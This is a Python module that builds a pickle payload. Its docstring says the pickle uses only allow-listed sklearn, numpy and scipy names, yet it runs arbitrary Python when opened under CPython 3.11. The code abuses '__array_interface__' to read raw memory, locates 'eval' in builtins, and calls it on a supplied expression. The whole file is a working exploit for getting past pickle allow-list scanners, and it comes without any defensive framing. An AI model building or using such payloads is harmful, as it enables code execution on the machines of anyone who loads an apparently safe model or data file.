"""Writes a pickle of allow-listed names alone that runs Python; its numbers are CPython 3.11's.

An instance of a harmless class is given `__array_interface__`, by which `asarray` maps any memory.
`eval` is found there, and a constructor that calls what it is given calls it.
"""

import builtins
import pickle
import struct
from typing import Any

PYTHON = (3, 11)


def write(expression: str) -> bytes:
    """A pickle that evaluates the expression where it is opened."""
    function = _name("sklearn.feature_selection._univariate_selection", "f_classif")
    place = 32 + 512 + 16 * list(builtins.__dict__).index("eval") + 8
    middle = _call(_name("builtins", "slice"), _plain(1), _plain(2))
    given = _objects(_plain(expression), b"N") + middle + _read(place, 3, "|O", _tuple(_plain(1)))
    steps = [
        _keep(1, _map(_objects(function), "<i8", _tuple())),  # the function's address
        _keep(2, _read(24, 1)),  # its builtins
        _keep(3, _read(32, 2)),  # their keys
        _name("numpy.random._pickle", "__generator_ctor") + given + b"sR",
    ]
    return b"\x80\x04" + b"".join(steps) + b"."


def _read(offset: int, kept: int, kind: str = "<i8", shape: bytes = b"(t") -> bytes:
    """Memory at the offset from the number in a kept array."""
    start = _map(_tuple(_plain(offset), _plain(False)), "|i1", _tuple(_plain(1)))
    return _map(start, kind, shape, offset=b"j" + struct.pack("<I", kept))


def _map(data: bytes, kind: str, shape: bytes, **more: bytes) -> bytes:
    described = {"data": data, "typestr": _plain(kind), "shape": shape, "version": _plain(3)}
    state = _dict({"__array_interface__": _dict(described | more)})
    instance = _name("sklearn._loss.link", "LogitLink") + _tuple() + b"\x81" + state + b"b"
    return _call(_name("scipy._lib.array_api_compat.numpy._aliases", "asarray"), instance)


def _objects(*items: bytes) -> bytes:
    kind = _call(_name("numpy", "dtype"), _plain("O"))
    array = _call(_name("numpy", "ndarray"), _tuple(_plain(len(items))), kind)
    return array + b"".join(_plain(i) + item + b"s" for i, item in enumerate(items))


def _call(function: bytes, *arguments: bytes) -> bytes:
    return function + _tuple(*arguments) + b"R"


def _keep(place: int, made: bytes) -> bytes:
    return made + b"r" + struct.pack("<I", place) + b"0"


def _name(module: str, name: str) -> bytes:
    return _plain(module) + _plain(name) + b"\x93"


def _dict(items: dict[str, bytes]) -> bytes:
    return b"(" + b"".join(_plain(name) + item for name, item in items.items()) + b"d"


def _tuple(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _plain(value: Any) -> bytes:
    if isinstance(value, str):
        content = value.encode()
        return b"X" + struct.pack("<I", len(content)) + content
    return pickle.dumps(value, 2)[2:-1]
